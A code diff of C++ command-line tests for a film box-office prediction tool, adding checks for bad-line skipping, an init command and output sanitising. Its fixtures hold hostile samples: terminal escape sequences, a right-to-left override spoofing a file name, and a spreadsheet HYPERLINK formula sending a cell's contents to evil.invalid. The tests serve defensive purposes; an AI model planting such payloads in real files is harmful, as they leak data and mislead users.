@@ -31,12 +31,13 @@ class CommandLine : public testing::Test {
                                     "Production Budget": 6, "Release Date": "Jun 12 2039"}])");
   }
 
-  /// Runs `boxoffice` in the folder; `arguments` as in a shell.
-  Outcome run(const std::string& arguments) {
+  /// Runs `boxoffice` in the folder; `arguments` as in a shell, `environment` such as "NAME=value".
+  Outcome run(const std::string& arguments, const std::string& environment = "") {
     const std::string out = path(".out");
     const std::string err = path(".err");
-    const std::string command = "cd '" + folder_.path().string() + "' && '" BOXOFFICE_PROGRAM "' " +
-                                arguments + " >'" + out + "' 2>'" + err + "'";
+    const std::string command = "cd '" + folder_.path().string() + "' && " + environment +
+                                " '" BOXOFFICE_PROGRAM "' " + arguments + " >'" + out + "' 2>'" +
+                                err + "'";
     const int status = std::system(command.c_str());
     return {WIFEXITED(status) ? WEXITSTATUS(status) : -1, *read_file(out, 16u << 20),
             *read_file(err, 16u << 20)};
@@ -56,7 +57,8 @@ TEST_F(CommandLine, HelpsAndNamesItsVersion) {
   for (const char* const arguments :
        {"--help", "import --help", "import vega --help", "train --help", "evaluate --help",
         "predict --help", "publish --help", "search --help", "rolling --help", "backfill --help",
-        "features --help", "overviews --help", "daily --help", "text-model --help"}) {
+        "features --help", "overviews --help", "daily --help", "text-model --help",
+        "init --help"}) {
     const Outcome outcome = run(arguments);
     EXPECT_EQ(outcome.status, 0) << arguments;
     EXPECT_NE(outcome.out.find("Usage: boxoffice"), std::string::npos) << arguments;
@@ -251,6 +253,124 @@ TEST_F(CommandLine, PredictsInEachFormat) {
 
   outcome = run("predict --model model --movies one.jsonl");
   EXPECT_NE(outcome.out.find("$10,000,000"), std::string::npos);
+}
+
+TEST_F(CommandLine, SkipsBadLinesWhereToldTo) {
+  train_model();
+  folder_.write("mixed.jsonl", test::body(7, "2009-05-05", 1e7, 0) + "\n{\"id\":862.5}\n" +
+                                   test::body(8, "2009-05-06", 1e7, 0) + "\n");
+  Outcome outcome = run("predict --model model --movies mixed.jsonl --json");
+  EXPECT_EQ(outcome.status, 2);
+  EXPECT_EQ(outcome.out, "");
+  EXPECT_EQ(outcome.err, "boxoffice: mixed.jsonl:2: id: expected a positive whole number\n");
+
+  outcome = run("predict --model model --movies mixed.jsonl --json --skip-bad");
+  EXPECT_EQ(outcome.status, 0);
+  EXPECT_EQ(Json::parse(outcome.out).size(), 2u);
+  EXPECT_EQ(outcome.err,
+            "boxoffice: skipped mixed.jsonl:2: id: expected a positive whole number\n"
+            "boxoffice: 1 lines were skipped\n");
+
+  folder_.write("more.jsonl", test::made_up_films(480, 2000) + "{\n");
+  for (const char* const command : {"train --until 2008-12-31 --out other",
+                                    "evaluate --model model --from 2009-01-01 --to "
+                                    "2009-12-31",
+                                    "rolling --from-year 2009 --to-year 2009 --settings quick.json",
+                                    "publish --model model --out site --from 2009-01-01"}) {
+    folder_.write("quick.json", R"({"settings": {"rounds": 10}})");
+    const std::string arguments = std::string(command) + " --movies more.jsonl";
+    EXPECT_EQ(run(arguments).status, 2) << command;
+    outcome = run(arguments + " --skip-bad");
+    EXPECT_EQ(outcome.status, 0) << command << outcome.err;
+    EXPECT_NE(outcome.err.find("1 lines were skipped"), std::string::npos) << outcome.err;
+  }
+}
+
+TEST_F(CommandLine, ShowsNoControlCharacters) {
+  train_model();
+  folder_.write(
+      "odd.jsonl",
+      R"({"id":1,"title":"\u001b]0;owned\u0007\u001b[31mRed","release_date":"2009-05-01"})"
+      "\n"
+      R"({"id":2,"title":"Two\nLines\rOver","release_date":"2009-05-01"})"
+      "\n"
+      R"({"id":3,"title":"C1 \u009b31m \u202efdp.exe","release_date":"2009-05-01"})"
+      "\n");
+  const Outcome table = run("predict --model model --movies odd.jsonl");
+  EXPECT_EQ(std::count(table.out.begin(), table.out.end(), '\n'), 4) << table.out;
+  EXPECT_NE(table.out.find("�]0;owned��[31mRed "), std::string::npos) << table.out;
+  EXPECT_NE(table.out.find("Two Lines Over "), std::string::npos);
+  EXPECT_NE(table.out.find("C1 �31m �fdp.exe "), std::string::npos);
+
+  const Outcome json = run("predict --model model --movies odd.jsonl --json");
+  EXPECT_EQ(Json::parse(json.out)[0]["title"], "\x1b]0;owned\x07\x1b[31mRed");
+  EXPECT_EQ(Json::parse(json.out)[2]["title"], "C1 \u009b31m \u202efdp.exe");
+  const Outcome csv = run("predict --model model --movies odd.jsonl --csv");
+  for (const std::string& out : {table.out, json.out, csv.out}) {
+    for (const char* const raw : {"\x1b", "\x07", "\u009b", "\u202e"}) {
+      EXPECT_EQ(out.find(raw), std::string::npos) << out;
+    }
+  }
+
+  const std::string name = "\x1b[31m\xe2\x80\xae.jsonl";
+  EXPECT_EQ(run("predict --model model --movies '" + name + "'").err,
+            "boxoffice: �[31m�.jsonl: No such file or directory\n");
+  EXPECT_EQ(run("predict '--" + name + "'").err,
+            "boxoffice: there is no option --�[31m�.jsonl (see boxoffice predict --help)\n");
+  EXPECT_EQ(
+      run("publish --model model --movies films.jsonl --from 2009-01-01 --to 2009-01-31 --out "
+          "'\x1b[1m'")
+          .out,
+      "�[1m/data: the model, 4 films and 4 backtests\n");
+}
+
+TEST_F(CommandLine, WritesCsvForSpreadsheets) {
+  train_model();
+  folder_.write("formula.jsonl",
+                R"x({"id":1,"title":"=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")"})x"
+                "\n"
+                R"({"id":2,"title":"-30-"})"
+                "\n");
+  const std::string predict = "predict --model model --movies formula.jsonl --csv";
+  const std::string csv = run(predict).out;
+  EXPECT_NE(csv.find("\r\n1,\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&A1,\"\"click\"\")\",,,,"),
+            std::string::npos)
+      << csv;
+  EXPECT_NE(csv.find("\r\n2,'-30-,,,,"), std::string::npos) << csv;
+  EXPECT_EQ(run(predict + " --bom").out, "\xEF\xBB\xBF" + csv);
+  EXPECT_EQ(run("predict --model model --movies formula.jsonl --bom").status, 2);
+}
+
+TEST_F(CommandLine, NamesAStoreThatDoesNotExist) {
+  train_model();
+  for (const char* const arguments :
+       {"features", "features --dry-run", "daily", "daily --dry-run", "train", "train --dry-run",
+        "publish --out site", "publish --out site --dry-run"}) {
+    const Outcome outcome = run(std::string(arguments) + " --store sqlite:mistyped.db",
+                                "TMDB_API_KEY=0123456789abcdef0123456789abcdef");
+    EXPECT_EQ(outcome.status, 2) << arguments;
+    EXPECT_EQ(outcome.err,
+              "boxoffice: mistyped.db: there is no such store; check --store, or create it by "
+              "boxoffice backfill or boxoffice init\n")
+        << arguments;
+    EXPECT_FALSE(exists("mistyped.db")) << arguments;
+    EXPECT_FALSE(exists("site")) << arguments;
+  }
+}
+
+TEST_F(CommandLine, CreatesAnEmptyStore) {
+  Outcome outcome = run("init --store sqlite:new.db");
+  EXPECT_EQ(outcome.status, 0) << outcome.err;
+  EXPECT_EQ(outcome.out, "sqlite:new.db: a store of 0 films\n");
+  EXPECT_TRUE(exists("new.db"));
+  EXPECT_EQ(run("init --store sqlite:new.db").status, 0);
+  const std::string before = *read_file(path("new.db"), 16u << 20);
+  outcome = run("features --store sqlite:new.db --dry-run --out rows.csv");
+  EXPECT_EQ(outcome.status, 0) << outcome.err;
+  EXPECT_EQ(outcome.out, "sqlite:new.db: 0 films, 0 rows would be written\n");
+  EXPECT_FALSE(exists("rows.csv"));
+  EXPECT_FALSE(exists("new.db-wal"));  // a clean end leaves the file alone
+  EXPECT_TRUE(*read_file(path("new.db"), 16u << 20) == before);
 }
 
 TEST_F(CommandLine, TmdbIsAskedTwentyTimesASecondUnlessToldOtherwise) {
